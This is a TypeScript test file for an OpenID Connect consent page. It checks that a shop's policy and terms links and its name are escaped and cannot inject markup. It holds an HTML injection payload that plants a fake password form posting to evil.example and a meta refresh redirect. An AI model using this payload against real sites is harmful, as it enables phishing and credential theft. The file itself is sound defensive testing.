/**
 * A shop's registered page links and name are its own words on the provider's consent page: they may never become
 * markup. A `policy_uri` like `https://shop.example/privacy?"><form …>` must not put a form (a fake "confirm your
 * password") or a `<meta http-equiv=refresh>` on the provider's own page, and a name with the private-use characters
 * the page uses to place links inside a translated sentence must not move those links.
 */
import { expect } from 'chai';
import { clientInputOf, findClient, saveClient, validateClientInput, type ShopClient } from '../../src/provider/clients.ts';
import { Browser, findForm, useShop, type Page } from '../helpers/shop.ts';
import { useTestServer } from '../helpers/server.ts';

const SHOP = 'http://localhost:7777/';
const INJECTION = '"></a></p><form action="https://evil.example/phish" method="post"><input type="password" name="password"><button>Continue</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/"><p x="';

describe('consent page: a shop’s links and name never become markup', function () {
  const server = useTestServer('consent_page_markup_injection');
  const partner = useShop(server, 'thirdParty');

  async function consentPage(language: 'en' | 'de'): Promise<Page> {
    const browser = new Browser([SHOP]);
    const pending = await partner.startLogin({ ui_locales: language, scope: 'openid email' });
    const login = await browser.go(pending.url.href);
    const page = await browser.submit(findForm(login, '/login'), { email: server.accounts.bob.email, password: server.accounts.bob.password });
    expect(page.html).to.include('/confirm"');
    return page;
  }

  it('a policy_uri or tos_uri with quotes and tags is stored percent-encoded, and a stored one is shown escaped', async function () {
    const stored = await findClient(server.conn, server.clients.thirdParty.clientId) as ShopClient;
    const input = { ...clientInputOf(stored), policyUri: `https://partner.example/privacy?${INJECTION}`, tosUri: `https://partner.example/terms#${INJECTION}` };
    expect(validateClientInput(input)).to.deep.equal([]);
    await saveClient(server.conn, input);
    const saved = await findClient(server.conn, server.clients.thirdParty.clientId) as ShopClient;
    expect(saved.policyUri).to.not.match(/["<> ]/);
    // A value stored before (straight into the collection) is escaped on the page all the same.
    await server.conn.collection('oidc_clients').updateOne({ _id: server.clients.thirdParty.clientId as never }, { $set: { 'payload.policy_uri': `https://partner.example/privacy?${INJECTION}` } });
    for (const language of ['en', 'de'] as const) {
      const page = await consentPage(language);
      expect(page.html, language).to.not.include('<form action="https://evil.example');
      expect(page.html, language).to.not.include('<meta http-equiv="refresh"');
      expect(page.html, language).to.not.include('"></a>');
      expect(page.html, language).to.include('href="https://partner.example/privacy?&quot;&gt;&lt;/a&gt;');
      expect(findForm(page, '/confirm').action).to.match(/\/interaction\/[^/]+\/confirm$/);
    }
  });

  it('a shop name with the page’s private-use marker characters loses them in the sentence with the links, and the links stay where they belong', async function () {
    const stored = await findClient(server.conn, server.clients.thirdParty.clientId) as ShopClient;
    await saveClient(server.conn, { ...clientInputOf(stored), name: 'Partner\ue000\ue001 Shop constructor', policyUri: 'https://partner.example/privacy', tosUri: 'https://partner.example/terms' });
    const page = await consentPage('en');
    const links = [...page.html.matchAll(/<a href="https:\/\/partner\.example\/(privacy|terms)"/g)].map((found) => found[1]);
    expect(links).to.deep.equal(['privacy', 'terms']);
    expect(page.html).to.not.include('<strong></strong>');
    const sentence = /<p[^>]*>[^<]*<a href="https:\/\/partner\.example\/privacy".*?<\/p>/s.exec(page.html)?.[0] ?? '';
    expect(sentence).to.include('Partner Shop constructor').and.not.match(/[\ue000-\ue0ff]/);
  });
});
